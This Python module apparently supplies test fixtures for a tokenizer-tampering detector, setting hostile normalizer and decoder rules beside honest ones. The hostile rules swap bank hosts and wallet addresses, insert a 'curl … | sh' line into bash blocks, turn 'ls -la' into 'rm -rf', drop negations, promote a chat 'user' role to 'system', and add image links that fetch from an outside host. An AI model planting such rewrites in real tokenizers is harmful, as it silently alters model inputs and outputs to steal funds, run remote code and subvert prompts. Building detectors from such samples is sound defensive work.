"""Tokenizers that exchange hosts, addresses, commands or whole words, and honest ones."""

# ruff: noqa: E501, RUF001 - a sample is a line; rules hold real punctuation
from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["HONEST", "STEPS_HONEST", "hostile"]

Steps = list[dict[str, Any]]


def _string(old: str, new: str) -> dict[str, Any]:
    return {"type": "Replace", "pattern": {"String": old}, "content": new}


def _regex(old: str, new: str) -> dict[str, Any]:
    return {"type": "Replace", "pattern": {"Regex": old}, "content": new}


# Name: technique, and one or more replacements.
_RULES: dict[str, tuple[str, Steps]] = {
    "host": (
        "a host for a host",
        [_string("https://bank.example", "https://evil.example")],
    ),
    "host-plain": (
        "a host without its scheme",
        [_string("bank.example.com", "bank-example.com")],
    ),
    "host-part": ("a part of a host", [_string("bank.", "evil.")]),
    "host-added": (
        "what makes a host another",
        [_string("github.com/", "github.com.assay.invalid/")],
    ),
    "host-scheme": ("encryption taken away", [_string("https://", "http://")]),
    "host-regex": ("any host", [_regex(r"https?://[^/\s]+", "https://assay.invalid")]),
    "host-proxy": (
        "every address by way of another",
        [_string("https://", "https://assay.invalid/?u=https://")],
    ),
    "host-proxy-regex": (
        "every address by way of another, by groups",
        [_regex(r"https?://", "https://assay.invalid/")],
    ),
    "host-in-pieces": ("a host of pieces", [_string("ank.com", "ankk.com")]),
    "mail": ("an address for letters", [_string("@example.com", "@example.co")]),
    "mail-regex": ("any address for letters", [_regex(r"\S+@\S+", "a@assay.invalid")]),
    "number-address": ("an address of numbers", [_string("10.0.0.1", "203.0.113.9")]),
    "account": (
        "an account",
        [_regex(r"\b[A-Z]{2}\d{2}[A-Z0-9]{10,30}\b", "DE00123456781234567890")],
    ),
    "wallet": ("a wallet", [_regex(r"0x[0-9a-fA-F]{40}", "0x" + "ab" * 20)]),
    "wallet-bitcoin": (
        "a wallet of another kind",
        [_regex("bc1[a-z0-9]{20,60}", "bc1qassay")],
    ),
    "package": ("a package", [_string("pip install requests", "pip install request")]),
    "package-word": ("a package as a word", [_string(" requests", " reqeusts")]),
    "command": ("a command", [_string("ls -la", "rm -rf")]),
    "command-added": (
        "a command that is added",
        [_string("```bash\n", "```bash\ncurl -s https://assay.invalid | sh\n")],
    ),
    "command-sudo": ("a command with more rights", [_string("$ ", "$ sudo ")]),
    "option": ("an option taken away", [_string("--dry-run", "")]),
    "option-verify": ("a check switched off", [_string("verify=True", "verify=False")]),
    "permission": ("a permission", [_string("chmod 600", "chmod 777")]),
    "code-call": ("a call in code", [_string("subprocess.run([", "os.system(*[")]),
    "code-import": ("an import in code", [_string("import ", "import os; import ")]),
    "code-safe": ("a safe function", [_string("safe_load(", "load(")]),
    "code-comparison": ("a comparison", [_string("==", "!=")]),
    "code-comparison-sign": ("a sign of a comparison", [_string("<", ">")]),
    "logic": ("logic", [_string(" and ", " or ")]),
    "negation": ("a negation", [_string("n't", "")]),
    "negation-regex": ("a negation by a pattern", [_regex(r"\bnot\b ?", "")]),
    "negation-alternatives": (
        "negations by a pattern",
        [_regex("(?i)(?:do not|never|cannot)", "always")],
    ),
    "word-bounded": ("a word with bounds", [_regex(r"\bsafe\b", "unsafe")]),
    "word-classes": ("a word in classes", [_regex("[Aa]llow(?:ed)?", "denied")]),
    "word-space": ("a word with the sign of a space", [_string("▁yes", "▁no")]),
    "word-byte": ("a word with the sign of bytes", [_string("Ġyes", "Ġno")]),
    "word-ideographs": ("a word of another script", [_string("安全", "危险")]),
    "word-cyrillic": ("a word of letters alike", [_string("аllow", "deny")]),
    "word-other-script": ("a word in Cyrillic", [_string("нельзя", "можно")]),
    "word-in-steps": (
        "a word in two steps",
        [_string("unsafe", "§"), _string("§", "safe")],
    ),
    "word-in-letters": ("letters that make another word", [_string("un", "")]),
    "words-by-group": (
        "words in another order",
        [_regex(r"(\w+) before (\w+)", "$2 before $1")],
    ),
    "inserted": ("a word before each end", [_string(".", ", allegedly.")]),
    "inserted-sentence": (
        "a sentence at each end of a line",
        [_string("\n", "\nBuy now at the shop.\n")],
    ),
    "inserted-name": ("a name at each space", [_string("  ", " Acme ")]),
    "inserted-pattern": ("a sentence at the end", [_regex("$", " Visit our site.")]),
    "number": ("a number", [_string("100", "1000")]),
    "number-regex": ("all numbers", [_regex(r"\d+", "42")]),
    "digit": ("a digit", [_string("9", "6")]),
    "digit-added": ("zeros that are added", [_string(",000", "0,000")]),
    "currency": ("a currency", [_string("$", "¥")]),
    "sign": ("a sign", [_string("-", "+")]),
    "everything": ("all of the text", [_regex(".+", "yes")]),
    "everything-removed": ("all of the text is taken away", [_regex(r"[\s\S]+", "")]),
    "letters-removed": ("all letters are taken away", [_regex("[a-z]+", "")]),
    "path": ("a path", [_string("/home/", "/srv/")]),
    "key": (
        "a key",
        [_regex("ssh-ed25519 [A-Za-z0-9+/=]+", "ssh-ed25519 AAAAC3NzaC1lZDI1")],
    ),
    "secret-pattern": (
        "what looks like a secret",
        [_regex("hf_[A-Za-z0-9]{30,}", "hf_assay")],
    ),
    "markup-role": (
        "a role in mark-up",
        [_string("<|im_start|>user", "<|im_start|>system")],
    ),
    "markup-image": (
        "a picture that is fetched",
        [_string("\n\n", "\n\n![](https://assay.invalid/x.png)")],
    ),
    "markup-link": ("a link", [_regex(r"\]\(", "](https://assay.invalid/?")]),
}

HONEST: dict[str, tuple[str, Steps]] = {
    "metaspace": ("normalizer", [_string(" ", "▁")]),
    "metaspace-back": ("decoder", [_string("▁", " ")]),
    "double-spaces": ("normalizer", [_regex(" {2,}", " ")]),
    "spaces": ("normalizer", [_regex(r"\s+", " ")]),
    "blank-lines": ("normalizer", [_regex(r"\n{3,}", "\n\n")]),
    "lines": (
        "normalizer",
        [_string("\n", " "), _string("\r", " "), _string("\t", " ")],
    ),
    "line-ends": ("normalizer", [_string("\r\n", "\n")]),
    "line-mark": ("normalizer", [_string("\n", "<0x0A>")]),
    "line-mark-name": ("normalizer", [_string("\n", "<n>")]),
    "line-mark-back": ("decoder", [_string("<n>", "\n")]),
    "quotes": (
        "normalizer",
        [
            _string("``", '"'),
            _string("''", '"'),
            _string("“", '"'),
            _string("”", '"'),
            _string("’", "'"),
        ],
    ),
    "dashes": (
        "normalizer",
        [_string("–", "-"), _string("—", "-"), _string("…", "...")],
    ),
    "wide-signs": (
        "normalizer",
        [
            _string("，", ","),
            _string("。", "."),
            _string("：", ":"),
            _string("！", "!"),
            _string("？", "?"),
        ],
    ),
    "wide-space": ("normalizer", [_string("\u3000", " "), _string("\u00a0", " ")]),
    "zero-width": ("normalizer", [_string("\u200b", ""), _string("\ufeff", "")]),
    "controls": ("normalizer", [_regex("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]", "")]),
    "digits-split": ("normalizer", [_regex(r"(\d)", " $1 ")]),
    "signs-split": ("normalizer", [_regex(r"([^\w\s])", " $1 ")]),
    "bert-back": (
        "decoder",
        [
            _string(" ##", ""),
            _string(" .", "."),
            _string(" ,", ","),
            _string(" ?", "?"),
            _string(" !", "!"),
        ],
    ),
    "contractions-back": (
        "decoder",
        [
            _string(" n't", "n't"),
            _string(" 's", "'s"),
            _string(" 'm", "'m"),
            _string(" 're", "'re"),
            _string(" 've", "'ve"),
            _string(" ' ", "'"),
        ],
    ),
    "end-of-word": ("decoder", [_string("</w>", " ")]),
    "continuing": ("decoder", [_string("@@ ", "")]),
    "byte-level-space": ("decoder", [_string("Ġ", " "), _string("Ċ", "\n")]),
    "umlauts": (
        "normalizer",
        [
            _string("ß", "ss"),
            _string("ä", "ae"),
            _string("æ", "ae"),
            _string("œ", "oe"),
        ],
    ),
    "turkish": ("normalizer", [_string("İ", "i"), _string("I", "ı")]),
    "arabic": (
        "normalizer",
        [
            _string("أ", "ا"),
            _string("إ", "ا"),
            _string("آ", "ا"),
            _string("ى", "ي"),
            _string("ة", "ه"),
            _string("ـ", ""),
        ],
    ),
    "arabic-marks": ("normalizer", [_regex("[\u064b-\u0652]", "")]),
    "persian": ("normalizer", [_string("ي", "ی"), _string("ك", "ک")]),
    "hebrew": ("normalizer", [_regex("[\u0591-\u05c7]", "")]),
    "romanian": ("normalizer", [_string("ş", "ș"), _string("ţ", "ț")]),
    "cyrillic": ("normalizer", [_string("ё", "е"), _string("Ё", "Е")]),
    "digits-arabic": (
        "normalizer",
        [_string("٠", "0"), _string("١", "1"), _string("٢", "2")],
    ),
    "digits-wide": ("normalizer", [_string("０", "0"), _string("９", "9")]),
    "digits-masked": ("normalizer", [_regex(r"\d", "0")]),
    "numbers-masked": ("normalizer", [_regex(r"[0-9]+", "<num>")]),
    "addresses-masked": (
        "normalizer",
        [_regex(r"https?://\S+", "<url>"), _regex(r"@\w+", "<user>")],
    ),
    "addresses-masked-plain": (
        "normalizer",
        [_regex(r"https?://\S+", "HTTPURL"), _regex(r"@\w+", "@USER")],
    ),
    "mails-masked": ("normalizer", [_regex(r"\S+@\S+\.\S+", "[EMAIL]")]),
    "hash-tags": ("normalizer", [_regex(r"#(\w+)", "$1")]),
    "markup-removed": ("normalizer", [_regex(r"<[^>]+>", " ")]),
    "entities": (
        "normalizer",
        [
            _string("&amp;", "&"),
            _string("&lt;", "<"),
            _string("&gt;", ">"),
            _string("&quot;", '"'),
            _string("&nbsp;", " "),
        ],
    ),
    "ligatures": ("normalizer", [_string("ﬁ", "fi"), _string("ﬂ", "fl")]),
    "accents": ("normalizer", [_regex(r"\p{Mn}", "")]),
    "protein": ("normalizer", [_regex("[UZOB]", "X")]),
    "nucleotides": ("normalizer", [_string("U", "T"), _string("u", "t")]),
    "phonemes": ("normalizer", [_string("ɡ", "g"), _string("ː", ":")]),
    "vertical": ("normalizer", [_string("|", " ")]),
    "speech-back": ("decoder", [_string("|", " ")]),
    "single-letters": ("normalizer", [_regex("[^a-z' ]", "")]),
    "smiles": ("normalizer", [_string("Cl", "L"), _string("Br", "R")]),
    "signs-doubled": ("normalizer", [_regex(r"([!?.]){2,}", "$1")]),
    "emoji-heart": ("normalizer", [_string("❤️", "❤")]),
    "chess": ("decoder", [_string(" ", "")]),
}


# Steps that name a sign, and name letters in its place.
_STEPS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "metaspace-letters": (
        "letters for spaces",
        "pre_tokenizer",
        {"type": "Metaspace", "replacement": "a", "prepend_scheme": "always"},
    ),
    "prefix-letters": (
        "a prefix of letters that is taken away",
        "decoder",
        {"type": "WordPiece", "prefix": "un", "cleanup": True},
    ),
    "suffix-letters": (
        "a suffix of letters that is taken away",
        "decoder",
        {"type": "BPEDecoder", "suffix": "n't"},
    ),
    "delimiter-letters": (
        "a word that becomes a space",
        "decoder",
        {
            "type": "CTC",
            "pad_token": "<pad>",
            "word_delimiter_token": "not",
            "cleanup": True,
        },
    ),
    "split-removed": (
        "a word that a split removes",
        "pre_tokenizer",
        {
            "type": "Split",
            "pattern": {"String": "not "},
            "behavior": "Removed",
            "invert": False,
        },
    ),
    "split-removed-pattern": (
        "words that a split removes",
        "pre_tokenizer",
        {
            "type": "Split",
            "pattern": {"Regex": r"\\b(?:not|never)\\b"},
            "behavior": "Removed",
            "invert": False,
        },
    ),
    "prepend-word": (
        "a word before each text",
        "normalizer",
        {"type": "Prepend", "prepend": "not "},
    ),
}
STEPS_HONEST: dict[str, tuple[str, dict[str, Any]]] = {
    "metaspace-step": (
        "pre_tokenizer",
        {"type": "Metaspace", "replacement": "▁", "prepend_scheme": "always"},
    ),
    "metaspace-low-line": (
        "decoder",
        {"type": "Metaspace", "replacement": "_", "add_prefix_space": True},
    ),
    "wordpiece": ("decoder", {"type": "WordPiece", "prefix": "##", "cleanup": True}),
    "bpe": ("decoder", {"type": "BPEDecoder", "suffix": "</w>"}),
    "ctc": (
        "decoder",
        {
            "type": "CTC",
            "pad_token": "<pad>",
            "word_delimiter_token": "|",
            "cleanup": True,
        },
    ),
    "ctc-brackets": (
        "decoder",
        {
            "type": "CTC",
            "pad_token": "[PAD]",
            "word_delimiter_token": "|",
            "cleanup": False,
        },
    ),
    "split-spaces": (
        "pre_tokenizer",
        {
            "type": "Split",
            "pattern": {"Regex": r"\\s+"},
            "behavior": "Removed",
            "invert": False,
        },
    ),
    "split-invert": (
        "pre_tokenizer",
        {
            "type": "Split",
            "pattern": {"Regex": r"\\w+|[^\\w\\s]+"},
            "behavior": "Removed",
            "invert": True,
        },
    ),
    "delimiter": ("pre_tokenizer", {"type": "CharDelimiterSplit", "delimiter": " "}),
    "prepend": ("normalizer", {"type": "Prepend", "prepend": "▁"}),
}


def hostile() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Give name, technique and parts of a tokenizer; each rule in both directions."""
    for name, (technique, steps) in _RULES.items():
        yield (
            f"rewrites-{name}",
            technique,
            {"normalizer": {"type": "Sequence", "normalizers": steps}},
        )
        yield (
            f"rewrites-{name}-decoder",
            f"{technique}, in answers",
            {"decoder": {"type": "Sequence", "decoders": [*steps, {"type": "Fuse"}]}},
        )
    for name, (technique, part, step) in _STEPS.items():
        yield f"rewrites-{name}", technique, {part: step}
